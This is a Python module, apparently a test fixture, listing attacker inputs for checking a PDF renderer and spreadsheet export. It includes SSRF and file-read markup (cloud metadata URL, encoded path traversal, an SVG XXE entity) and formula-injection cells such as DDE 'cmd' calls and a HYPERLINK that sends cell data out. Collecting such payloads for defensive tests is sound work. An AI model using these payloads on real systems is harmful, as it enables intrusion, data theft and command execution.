"""What an attacker writes in a name or a text: markup that makes a PDF maker fetch, and cells that are formulas."""

from collections.abc import Callable

# `{file}` is the address of a file outside the folders, `{web}` that of a server, `{port}` its port, `{up}` a way
# out of a folder that may be read, `{folder}` such a folder.
SNIPPETS: tuple[str, ...] = (
    '<img src="{file}">',
    '<img src="{web}/img">',
    '<img src="{web}/redirect">',
    '<img src="ftp://127.0.0.1:{port}/x">',
    '<img src="http://localhost:{port}/name">',
    '<img src="http://2130706433:{port}/number">',
    '<img src="http://[::ffff:127.0.0.1]:{port}/six">',
    '<img src="http://0:{port}/zero">',
    '<img src="http://127.1:{port}/short">',
    '<img src="http://user:word@127.0.0.1:{port}/user">',
    '<img src="http://169.254.169.254/latest/meta-data/">',
    '<img src="//127.0.0.1:{port}/scheme">',
    '<img src="HTTP://127.0.0.1:{port}/upper">',
    '<img srcset="{web}/a 1x" src="{web}/b">',
    '<img src="{folder}/{up}{plain}">',
    '<img src="{folder}/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/{plain}">',
    '<img src="file://127.0.0.1{plain}">',
    '<img src="file:{plain}">',
    '<img src="FILE://{plain}">',
    '<img src="{folder}.evil/../{up}{plain}">',
    '<link rel="attachment" href="{file}">',
    '<link rel="attachment" href="{web}/attachment">',
    '<a rel="attachment" href="{file}">bilaga</a>',
    '<a rel="attachment" href="{web}/a">bilaga</a>',
    '<link rel="stylesheet" href="{file}">',
    '<link rel="stylesheet" href="{web}/css">',
    '<style>@import "{file}";</style>',
    "<style>@import url({web}/import);</style>",
    "<style>@font-face {{ font-family: x; src: url({web}/font) }} p {{ font-family: x }}</style><p>x</p>",
    "<style>@font-face {{ font-family: y; src: url({file}) }} p {{ font-family: y }}</style><p>x</p>",
    '<p style="background: url({web}/background)">x</p>',
    '<p style="background-image: url({file})">x</p>',
    '<ul style="list-style-image: url({web}/list)"><li>x</li></ul>',
    "<style>p::before {{ content: url({web}/content) }}</style><p>x</p>",
    "<style>p {{ border-image: url({web}/border) 1 }}</style><p>x</p>",
    "<style>@page {{ background: url({file}) }}</style>",
    '<object data="{file}" type="text/plain"></object>',
    '<object data="{web}/object"></object>',
    '<embed src="{web}/embed" type="image/svg+xml">',
    '<embed src="{file}">',
    '<iframe src="{web}/frame"></iframe>',
    '<base href="{web}/"><img src="base">',
    '<meta http-equiv="refresh" content="0; url={web}/meta">',
    '<svg width="9" height="9"><image href="{web}/svg" width="9" height="9"/></svg>',
    '<svg width="9" height="9"><image xlink:href="{file}" width="9" height="9"/></svg>',
    '<svg width="9" height="9"><use href="{web}/use#a"/></svg>',
    (
        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
        '<image href="{web}/inner" width="9" height="9"/></svg>\'>'
    ),
    (
        '<img src=\'data:image/svg+xml,<!DOCTYPE svg [<!ENTITY x SYSTEM "{file}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text y="9">&x;</text></svg>\'>'
    ),
    (
        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
        "<style>@import url({web}/innercss);</style></svg>'>"
    ),
    '<script src="{web}/script"></script><video src="{web}/v" poster="{web}/p"></video>',
)

FORMULAS: tuple[str, ...] = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"Klicka")',
    "=WEBSERVICE(A1)",
    "=IMPORTXML(A1;A2)",
    "=DDE(A1;A2;A3)",
    "+1+1",
    "+46701234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    "|calc",
    "%0A=1+1",
    "=1+1;=2+2",
    '=1+1","=2+2',
    "=A1\r\n=B1;x",
)

Fill = Callable[[str], str]
